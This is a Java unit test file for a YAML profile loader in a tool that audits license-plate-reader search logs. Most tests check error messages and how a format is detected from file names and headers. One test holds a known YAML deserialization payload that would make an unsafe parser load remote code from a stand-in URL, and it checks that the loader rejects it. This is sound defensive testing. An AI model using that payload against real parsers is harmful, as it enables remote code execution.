package org.queryaudit.ingest;

import org.queryaudit.base.ConfigException;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class ProfileLoaderTest {
    private static FormatProfile load(String yaml) {
        return ProfileLoader.load(new ByteArrayInputStream(yaml.getBytes(StandardCharsets.UTF_8)), "my-profile.yaml");
    }

    private static String error(String yaml) {
        return assertThrows(ConfigException.class, () -> load(yaml)).getMessage();
    }

    private static final String GOOD = """
            id: vigilant-audit
            source_system: ALPR
            detect: {required: [Query Date, Agency]}
            timestamp_formats: ["MM/dd/yyyy HH:mm:ss"]
            timestamp_zone: America/Los_Angeles
            columns:
              occurred_at: {headers: [Query Date], type: timestamp, required: true}
              requester_name: {headers: [Agency]}
              reason: {headers: [Reason]}
            """;

    @Test
    void aValidUserProfileLoads() {
        FormatProfile p = load(GOOD);
        assertEquals("vigilant-audit", p.id());
        assertEquals(ValueType.TIMESTAMP, p.columns().get("occurred_at").type());
        assertEquals(List.of("Query Date", "Agency"), p.detect().required());
    }

    @Test
    void everyShippedProfileLoads() {
        assertEquals(11, ProfileCatalog.builtIn().all().size());
    }

    @Test
    void errorsNameTheFileAndTheField() {
        String e = error(GOOD.replace("type: timestamp", "type: timestamps"));
        assertTrue(e.contains("my-profile.yaml") && e.contains("columns.occurred_at.type") && e.contains("timestamps"), e);
        e = error(GOOD.replace("reason: {headers", "reasn: {headers"));
        assertTrue(e.contains("columns.reasn") && e.contains("not a canonical column"), e);
        e = error(GOOD.replace("MM/dd/yyyy HH:mm:ss", "MM/dd/yyyy HH:mm:ss bbb"));
        assertTrue(e.contains("timestamp_formats[0]"), e);
        e = error(GOOD.replace("America/Los_Angeles", "Mars/Olympus"));
        assertTrue(e.contains("timestamp_zone"), e);
        e = error(GOOD.replace("  occurred_at: {headers: [Query Date], type: timestamp, required: true}\n", ""));
        assertTrue(e.contains("columns.occurred_at") && e.contains("missing"), e);
        e = error(GOOD + "colour: blue\n");
        assertTrue(e.contains("'colour'") && e.contains("unknown key"), e);
        e = error(GOOD.replace("reason: {headers: [Reason]}", "reason: {headers: [Reason], extract: '(unclosed'}"));
        assertTrue(e.contains("columns.reason.extract"), e);
        // Issue 16: a search key of columns a redaction can hide would split one search in two.
        e = error(GOOD + "search_key: [requester_name, reason]\n");
        assertTrue(e.contains("search_key") && e.contains("'reason'"), e);
        assertEquals(List.of("requester_name", "occurred_at"), load(GOOD + "search_key: [requester_name, occurred_at]\n").searchKey());
    }

    @Test
    void yamlThatWouldConstructObjectsIsNotHonoured() {
        String e = error("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        assertTrue(e.contains("my-profile.yaml"), e);
    }

    @Test
    void detectionPrefersTheFileNameThenTheHeader() {
        ProfileCatalog c = ProfileCatalog.builtIn();
        List<String> header = List.of("Name", "Org Name", "Total Networks Searched", "Time Frame", "Reason", "Search Time");
        assertEquals("flock-network-audit", c.detect(header, "1_1_2025-1_31_2025-X WA PD-Network-Audit.csv", null).id());
        assertEquals("flock-org-audit", c.detect(header, "1_1_2025-1_31_2025-X WA PD-Audit.csv", null).id());
        assertEquals("flock-network-audit", c.detect(header, "export.csv", null).id());
        assertEquals("flock-org-audit", c.detect(List.of("Name", "Total Networks Searched", "Time Frame", "Case #",
                "Filters", "Reason", "Search Time"), "export.csv", null).id());
        assertEquals("flock-portal", c.detect(List.of("id", "userId", "searchDate", "cameraCount", "reason"), "x.csv", null).id());
    }

    @Test
    void anUnknownHeaderNamesTheClosestProfileAndWhatIsMissing() {
        String e = assertThrows(ConfigException.class, () -> ProfileCatalog.builtIn()
                .detect(List.of("id", "userId", "when", "reason"), "odd.csv", null)).getMessage();
        assertTrue(e.contains("odd.csv") && e.contains("'flock-portal'") && e.contains("searchDate"), e);
    }
}
